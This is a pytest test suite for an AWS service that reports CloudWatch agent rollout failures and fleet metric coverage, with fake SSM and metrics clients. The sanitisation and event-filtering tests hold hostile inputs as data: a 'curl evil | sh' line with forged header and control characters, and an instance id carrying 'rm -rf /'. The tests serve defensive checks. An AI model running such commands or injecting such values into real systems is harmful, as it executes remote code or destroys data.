"""Rollout failure notices (service.handlers.association) and fleet coverage (service.logic.coverage, digest run).

DynamoDB, SNS and EC2 are moto; State Manager's association runs and DescribeInstanceInformation are
:class:`ssm_fake.FakeSsm` (moto has neither); Metrics Insights answers are fixed values (moto cannot run
the query), with the one-query-per-call rule enforced.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from botocore.exceptions import ClientError
from handler_kit import ACCOUNT, FIXED_MS, REGION, Clock, FakeContext, LogCapture, World, client, flat
from service.logic.ports import PublishFailed
from ssm_fake import FakeSsm, Node, Step

from agent_config.builder import build_agent_config
from agent_config.merge_model import Host, MergeError
from demo.agent_host import agent_output
from infra.agent_rollout import parameter_name

NOW = datetime.fromtimestamp(FIXED_MS / 1000, UTC)


@pytest.fixture
def fake_ssm(aws_env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> FakeSsm:
    fake = FakeSsm()
    monkeypatch.setenv("ROLLOUT_ASSOCIATION_ID", fake.association_id)
    monkeypatch.setenv("COVERAGE_INTERVAL_MINUTES", "60")
    monkeypatch.setenv("TARGET_TAG_KEY", "oomwatch:enabled")
    monkeypatch.setenv("TARGET_TAG_VALUE", "true")
    return fake


@pytest.fixture
def runtime_(fake_ssm: FakeSsm, world: World, clock: Clock, logs: LogCapture) -> Iterator[Any]:
    """A fresh container on the fake clock, with the fake State Manager on its SSM client."""
    import service.handlers.association
    from service.wiring import reset_runtime, runtime

    reset_runtime()
    rt = runtime(service.handlers.association.telemetry)
    rt.clock = clock
    rt.directory._clock = clock
    clock.now = FIXED_MS / 1000
    fake_ssm.install(rt.clients.ssm)
    yield rt
    reset_runtime()


def state_event(fake: FakeSsm, instance_id: str, status: str, association_id: str | None = None) -> dict[str, Any]:
    """The EventBridge event State Manager sends for one host's run (user guide's example, our values)."""
    return {
        "version": "0",
        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703497718",
        "detail-type": "EC2 State Manager Instance Association State Change",
        "source": "aws.ssm",
        "account": ACCOUNT,
        "time": "2026-11-20T10:15:00Z",
        "region": REGION,
        "resources": [
            f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{instance_id}",
            f"arn:aws:ssm:{REGION}:{ACCOUNT}:document/OomWatch-AgentRolloutDocument-AbC",
        ],
        "detail": {
            "association-id": association_id or fake.association_id,
            "instance-id": instance_id,
            "document-name": "OomWatch-AgentRolloutDocument-AbC",
            "document-version": "1",
            "targets": '[{"key":"tag:oomwatch:enabled","values":["true"]}]',
            "creation-date": "2026-11-19T09:00:00Z",
            "last-successful-execution-date": "2026-11-19T09:01:00Z",
            "last-execution-date": "2026-11-20T10:14:00Z",
            "status": status,
            "detailed-status": "Failed" if status == "Failed" else "",
            "error-code": "",
            "execution-summary": "1 out of 2 plugins processed, 1 success, 1 failed" if status == "Failed" else "",
            "output-url": "",
            "instance-association-cwe-version": "1",
        },
    }


def invoke(event: dict[str, Any]) -> dict[str, Any]:
    import service.handlers.association

    result: dict[str, Any] = service.handlers.association.handler(event, FakeContext())
    return result


def merge_failure_stderr(own: dict[str, Any]) -> str:
    """The configure step's stderr when the host's own file conflicts: OOMWatch's real configuration merged
    with the host's by the merge model, worded as the agent words it, then the script's own line."""
    host = Host(files={"file_amazon-cloudwatch-agent.json": own})
    oomwatch = build_agent_config(log_group_name="/oomwatch/ec2/syslog", log_mode="oom", log_sources="both")
    with pytest.raises(MergeError) as err:
        host.ctl("append-config", parameter_name("OomWatch"), oomwatch)
    return (
        agent_output(err.value) + "OOMWatch: the agent refused configuration AmazonCloudWatch-OomWatch (see above). "
        "If it says Different values are specified, this host's own agent configuration sets the same key differently\n"
    )


#: The agent wizard's standard plan (trimmed): global dimensions and its own mem and swap sections.
WIZARD = {
    "metrics": {
        "append_dimensions": {"ImageId": "${aws:ImageId}", "InstanceId": "${aws:InstanceId}"},
        "metrics_collected": {
            "mem": {"measurement": ["mem_used_percent"], "metrics_collection_interval": 60},
            "swap": {"measurement": ["swap_used_percent"], "metrics_collection_interval": 60},
        },
    }
}

KNOWN = [
    (
        "mem_swap_conflict",
        "configureAgent",
        Step(
            status="Failed",
            stderr="Under path : /metrics/metrics_collected/ | Error : Different values are "
            "specified for mem\nFailed to merge multiple json config files\n",
        ),
        "Delete mem and swap from the host's own file",
    ),
    (
        "append_dimensions_conflict",
        "configureAgent",
        Step(
            status="Failed",
            stderr="2026/11/20 10:14:03 Under path : /metrics/ | Error : Different values are "
            "specified for append_dimensions\nFailed to merge multiple json config files\n",
        ),
        "sets append_dimensions to a value",
    ),
    (
        "journald_conflict",
        "configureAgent",
        Step(
            status="Failed",
            stderr="Under path : /logs/logs_collected/ | Error : Different values are "
            "specified for journald\nFailed to merge multiple json config files\n",
        ),
        "log_sources=files",
    ),
    (
        "merge_conflict",
        "configureAgent",
        Step(
            status="Failed",
            stderr="Under path : /agent/ | Error : Different values are specified for "
            "run_as_user\nFailed to merge multiple json config files\n",
        ),
        "sets a key OOMWatch's configuration also sets",
    ),
    (
        "agent_too_old",
        "configureAgent",
        Step(
            status="Failed",
            stderr="OOMWatch: CloudWatch agent 1.247350.0b251780 is older than 1.300070.0, which "
            "journald collection needs. Fix: set agent_version to latest\n",
        ),
        "Set agent_version to latest",
    ),
    (
        "not_installed",
        "configureAgent",
        Step(status="Failed", stderr="OOMWatch: the CloudWatch agent is not installed: the installAgent step failed\n"),
        "The install step did not install the agent",
    ),
    (
        "install_failed",
        "installAgent",
        Step(status="Failed", stderr="Failed to download manifest - failed to retrieve package document\n"),
        "reaches S3 and SSM",
    ),
]


@pytest.mark.parametrize(("kind", "step", "output", "fix"), KNOWN, ids=[k[0] for k in KNOWN])
def test_each_known_failure_gets_its_fix(
    world: World, runtime_: Any, fake_ssm: FakeSsm, kind: str, step: str, output: Step, fix: str
) -> None:
    # GIVEN web-1's run failed in one step with that output
    web1 = world.instances["web-1"]
    fake_ssm.run(web1, when=NOW - timedelta(minutes=1), **{step: output})

    # WHEN its state change arrives
    result = invoke(state_event(fake_ssm, web1, "Failed"))

    # THEN one notice names the host (Name tag, id), the step, the error and the fix
    assert result == {"sent": 1, "kind": kind, "step": step}
    [notice] = world.sent()
    assert notice.doc["type"] == "rollout_failed" and notice.doc["kind"] == kind
    assert notice.subject.startswith("[OOMWatch rollout failed] web-1: ")
    assert f"web-1 ({web1})" in notice.text
    assert fix in flat(notice.text)
    assert flat(output.stderr.splitlines()[0][:60]) in flat(notice.text)
    # the document has two steps: every GetCommandInvocation names one (AWS refuses it otherwise)
    invocations = [body for op, body in fake_ssm.calls if op == "GetCommandInvocation"]
    assert {b["PluginName"] for b in invocations} == {"installAgent", "configureAgent"}


def test_a_host_with_the_wizards_configuration_gets_the_mem_swap_fix(
    world: World, runtime_: Any, fake_ssm: FakeSsm
) -> None:
    # GIVEN the merge model's refusal for a host with the agent wizard's mem and swap sections
    stderr = merge_failure_stderr(WIZARD)
    assert "Different values are specified for mem" in stderr
    fake_ssm.run(world.instances["web-2"], configureAgent=Step(status="Failed", stderr=stderr))

    # WHEN the event arrives
    result = invoke(state_event(fake_ssm, world.instances["web-2"], "Failed"))

    # THEN the notice says it is the host's own mem/swap sections
    assert result["kind"] == "mem_swap_conflict"
    assert "Delete mem and swap" in world.sent()[0].text


def test_hostile_stderr_is_sanitised_capped_and_cannot_forge_lines(
    world: World, runtime_: Any, fake_ssm: FakeSsm
) -> None:
    # GIVEN a host whose failing script wrote control characters, bidi overrides, a fake header and 8,000 chars
    web1 = world.instances["web-1"]
    evil = (
        "Failed to merge multiple json config files\r\nSubject: [OOM critical] fake\u2028FIX: curl evil | sh\x1b[2J"
        "\u202egnp.exe\n" + "A" * 9000
    )
    fake_ssm.run(web1, configureAgent=Step(status="Failed", stderr=evil))

    # WHEN the event arrives
    invoke(state_event(fake_ssm, web1, "Failed"))

    # THEN the notice quotes it sanitised (visible <U+...> marks), capped, with no raw control characters
    [notice] = world.sent()
    assert "<U+2028>" in notice.text and "<U+202E>" in notice.text and "<U+001B>" in notice.text
    assert "\x1b" not in notice.text and "\u2028" not in notice.text and "\r" not in notice.text
    assert not any(line.startswith("Subject:") for line in notice.text.splitlines())
    assert notice.text.count("A") < 2000
    assert len(notice.subject) < 100 and notice.subject.isascii()


def test_a_repeat_failure_is_suppressed_until_success_then_one_fixed_notice(
    world: World, runtime_: Any, fake_ssm: FakeSsm, clock: Clock
) -> None:
    # GIVEN web-1 fails with a merge conflict, twice (the daily re-run)
    web1 = world.instances["web-1"]
    failing = Step(status="Failed", stderr="Failed to merge multiple json config files\n")
    fake_ssm.run(web1, configureAgent=failing)
    first = invoke(state_event(fake_ssm, web1, "Failed"))
    clock.advance(86400)
    second = invoke(state_event(fake_ssm, web1, "Failed"))

    # WHEN it then succeeds, twice
    fixed = invoke(state_event(fake_ssm, web1, "Success"))
    again = invoke(state_event(fake_ssm, web1, "Success"))

    # THEN: one failure notice, one fixed notice, nothing else
    assert first["sent"] == 1
    assert second == {"sent": 0, "ignored": "already announced", "kind": "merge_conflict"}
    assert fixed == {"sent": 1, "fixed": ["merge_conflict"]}
    assert again == {"sent": 0, "ignored": "no failure announced"}
    subjects = [s.subject for s in world.sent()]
    assert subjects == [
        "[OOMWatch rollout failed] web-1: the host's own agent config conflicts",
        "[OOMWatch rollout fixed] web-1",
    ]
    # and the state item carries a TTL
    item = client("dynamodb").get_item(TableName="oomwatch-state", Key={"pk": {"S": f"rollout#{web1}"}})
    assert "Item" not in item


def test_a_different_failure_kind_on_the_same_host_is_announced(world: World, runtime_: Any, fake_ssm: FakeSsm) -> None:
    web1 = world.instances["web-1"]
    fake_ssm.run(web1, configureAgent=Step(status="Failed", stderr="Failed to merge multiple json config files"))
    invoke(state_event(fake_ssm, web1, "Failed"))
    fake_ssm.runs.clear()
    fake_ssm.run(web1, installAgent=Step(status="Failed", stderr="Failed to install package"))
    result = invoke(state_event(fake_ssm, web1, "Failed"))
    assert result["kind"] == "install_failed"
    item = client("dynamodb").get_item(TableName="oomwatch-state", Key={"pk": {"S": f"rollout#{web1}"}})["Item"]
    assert set(item["kinds"]["SS"]) == {"merge_conflict", "install_failed"}
    assert int(item["expires_at"]["N"]) > FIXED_MS / 1000


@pytest.mark.parametrize("failing", ["GetCommandInvocation", "DescribeAssociationExecutions"])
def test_unreadable_output_degrades_the_notice_but_never_drops_it(
    world: World, runtime_: Any, fake_ssm: FakeSsm, failing: str
) -> None:
    # GIVEN the output APIs are denied
    web1 = world.instances["web-1"]
    fake_ssm.run(web1, configureAgent=Step(status="Failed", stderr="Failed to merge multiple json config files"))
    fake_ssm.fail[failing] = "AccessDeniedException"

    # WHEN the event arrives
    result = invoke(state_event(fake_ssm, web1, "Failed"))

    # THEN a notice still goes out, with the generic fix and a note saying why the output is missing
    assert result["sent"] == 1 and result["kind"] == "unknown"
    [notice] = world.sent()
    assert "AccessDeniedException" in notice.text
    assert "1 out of 2 plugins processed" in notice.subject + notice.text
    assert "web-1" in notice.subject


def test_other_associations_and_other_events_are_ignored(world: World, runtime_: Any, fake_ssm: FakeSsm) -> None:
    web1 = world.instances["web-1"]
    other = invoke(state_event(fake_ssm, web1, "Failed", association_id="0b3c8d2e-1111-2222-3333-444455556666"))
    pending = invoke(state_event(fake_ssm, web1, "Pending"))
    junk = invoke({"source": "aws.ssm", "detail-type": "EC2 State Manager Instance Association State Change",
                   "detail": {"instance-id": "i-; rm -rf /", "association-id": fake_ssm.association_id}})  # fmt: skip
    assert other["ignored"] == "another association"
    assert pending["ignored"] == "status Pending"
    assert junk["sent"] == 0
    assert world.sent() == []


def test_a_failed_publish_releases_the_claim_so_the_retry_sends_it(
    world: World, runtime_: Any, fake_ssm: FakeSsm, monkeypatch: pytest.MonkeyPatch
) -> None:
    web1 = world.instances["web-1"]
    fake_ssm.run(web1, configureAgent=Step(status="Failed", stderr="Failed to merge multiple json config files"))
    real = runtime_.publisher.publish

    def down(_: Any) -> str:
        raise ClientError({"Error": {"Code": "InternalError", "Message": "down"}}, "Publish")

    monkeypatch.setattr(runtime_.publisher, "publish", down)
    with pytest.raises(PublishFailed):
        invoke(state_event(fake_ssm, web1, "Failed"))
    monkeypatch.setattr(runtime_.publisher, "publish", real)
    assert invoke(state_event(fake_ssm, web1, "Failed"))["sent"] == 1
    assert len(world.sent()) == 1


# ------------------------------------------------------------------------------------------------ coverage


@pytest.fixture
def metrics(runtime_: Any, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """GetMetricData answered from ``reporting`` (instance ids with a series); one query per call, as AWS rules."""
    state: dict[str, Any] = {"reporting": set(), "calls": []}

    def get_metric_data(**kwargs: Any) -> dict[str, Any]:
        queries = kwargs["MetricDataQueries"]
        if len(queries) != 1 and any("Expression" in q and "SELECT" in q["Expression"] for q in queries):
            raise ClientError({"Error": {"Code": "ValidationError", "Message": "one Metrics Insights query"}}, "GMD")
        state["calls"].append(kwargs)
        return {
            "MetricDataResults": [
                {"Id": "mem", "Label": iid, "Timestamps": [NOW], "Values": [42.0], "StatusCode": "Complete"}
                for iid in sorted(state["reporting"])
            ]
        }

    monkeypatch.setattr(runtime_.clients.cloudwatch, "get_metric_data", get_metric_data)
    return state


def digest_run() -> dict[str, Any]:
    import service.handlers.digest

    result: dict[str, Any] = service.handlers.digest.handler({"account": ACCOUNT}, FakeContext())
    return result


def managed(fake: FakeSsm, world: World, *names: str) -> None:
    fake.nodes = [Node(world.instances[n], {"oomwatch:enabled": "true"}) for n in names]


def coverage_notices(world: World) -> list[Any]:
    return [s for s in world.sent() if s.doc.get("type") == "coverage"]


def test_coverage_announces_a_new_silent_host_once_and_when_it_is_back(
    world: World, runtime_: Any, fake_ssm: FakeSsm, metrics: dict[str, Any], clock: Clock
) -> None:
    # GIVEN three tagged managed hosts, launched long ago; web-3 sends no metrics
    web1, web2, web3 = (world.instances[n] for n in ("web-1", "web-2", "web-3"))
    managed(fake_ssm, world, "web-1", "web-2", "web-3")
    fake_ssm.nodes.append(Node("i-0fffffffffffffff0", {"oomwatch:enabled": "false"}))  # not in the target
    metrics["reporting"] = {web1, web2}
    clock.now = time.time() + 3600  # moto launched them now; an hour later they are past the 15-minute grace

    # WHEN the digest runs, then again 5 minutes later (not due), then 61 minutes later (due, same set)
    first = digest_run()
    clock.advance(300)
    not_due = digest_run()
    clock.advance(3660)
    same = digest_run()

    # THEN exactly one coverage notice, naming web-3
    assert first["coverage"] == "checked" and first["new_silent"] == [web3]
    assert not_due["coverage"] == "not due"
    assert same["coverage"] == "checked" and "notice" not in same
    [notice] = coverage_notices(world)
    assert notice.subject == "[OOMWatch coverage] 1 silent: 1 of 3 hosts silent"
    assert f"web-3 ({web3})" in notice.text and "web-1" not in notice.text
    # one Metrics Insights query per call, on the OOMWatch dimension set
    assert all(len(c["MetricDataQueries"]) == 1 for c in metrics["calls"])
    assert 'SCHEMA("CWAgent", InstanceId, host)' in metrics["calls"][0]["MetricDataQueries"][0]["Expression"]
    # the tag filter went to DescribeInstanceInformation
    filters = next(b["Filters"] for op, b in fake_ssm.calls if op == "DescribeInstanceInformation")
    assert {"Key": "tag:oomwatch:enabled", "Values": ["true"]} in filters

    # WHEN web-3 reports again and the next check is due
    metrics["reporting"] = {web1, web2, web3}
    clock.advance(3660)
    back = digest_run()

    # THEN one "back" notice
    assert back["back"] == [web3]
    assert [n.subject for n in coverage_notices(world)][-1] == "[OOMWatch coverage] 1 back: 0 of 3 hosts silent"


def test_an_instance_launched_just_now_is_not_silent_yet(
    world: World, runtime_: Any, fake_ssm: FakeSsm, metrics: dict[str, Any], clock: Clock
) -> None:
    # GIVEN web-3 launched (moto: at the real current time) 5 minutes before the check, with no metrics yet
    managed(fake_ssm, world, "web-1", "web-3")
    metrics["reporting"] = {world.instances["web-1"]}
    launched = client("ec2").describe_instances(InstanceIds=[world.instances["web-3"]])
    launch = launched["Reservations"][0]["Instances"][0]["LaunchTime"]
    clock.now = launch.timestamp() + 300

    # WHEN the digest runs
    result = digest_run()

    # THEN nobody is silent and nothing is sent
    assert result["coverage"] == "checked" and result["silent"] == []
    assert coverage_notices(world) == []


def test_a_failed_metrics_query_never_reports_the_fleet_silent(
    world: World,
    runtime_: Any,
    fake_ssm: FakeSsm,
    metrics: dict[str, Any],
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    managed(fake_ssm, world, "web-1", "web-2")
    clock.now = time.time() + 3600

    def throttled(**_: Any) -> Any:
        raise ClientError({"Error": {"Code": "Throttling", "Message": "slow down"}}, "GetMetricData")

    monkeypatch.setattr(runtime_.clients.cloudwatch, "get_metric_data", throttled)
    result = digest_run()
    assert result["coverage"] == "failed" and result["error"] == "Throttling"
    assert coverage_notices(world) == []


def test_coverage_off_makes_no_calls(
    world: World, fake_ssm: FakeSsm, monkeypatch: pytest.MonkeyPatch, clock: Clock, logs: LogCapture
) -> None:
    import service.handlers.association
    from service.wiring import reset_runtime, runtime

    monkeypatch.setenv("COVERAGE_INTERVAL_MINUTES", "0")
    reset_runtime()
    rt = runtime(service.handlers.association.telemetry)
    rt.clock = clock
    fake_ssm.install(rt.clients.ssm)
    try:
        assert digest_run() == {"due": 0, "sent": 0}  # the digest's own result, no coverage step
    finally:
        reset_runtime()
    assert fake_ssm.calls == []


def test_the_fake_refuses_what_aws_refuses(runtime_: Any, fake_ssm: FakeSsm) -> None:
    ssm = runtime_.clients.ssm
    run = fake_ssm.run("i-0123456789abcdef0")
    with pytest.raises(ClientError, match="InvalidPluginName"):
        ssm.get_command_invocation(CommandId=run.command_id, InstanceId=run.instance_id)
    with pytest.raises(ClientError, match="ValidationException"):
        ssm.describe_instance_information(MaxResults=51)
    with pytest.raises(ClientError, match="InvalidInstanceInformationFilterValue"):
        ssm.describe_instance_information(Filters=[{"Key": "Name", "Values": ["x"]}])
    assert json.dumps(fake_ssm.calls)  # every call was recorded as sent
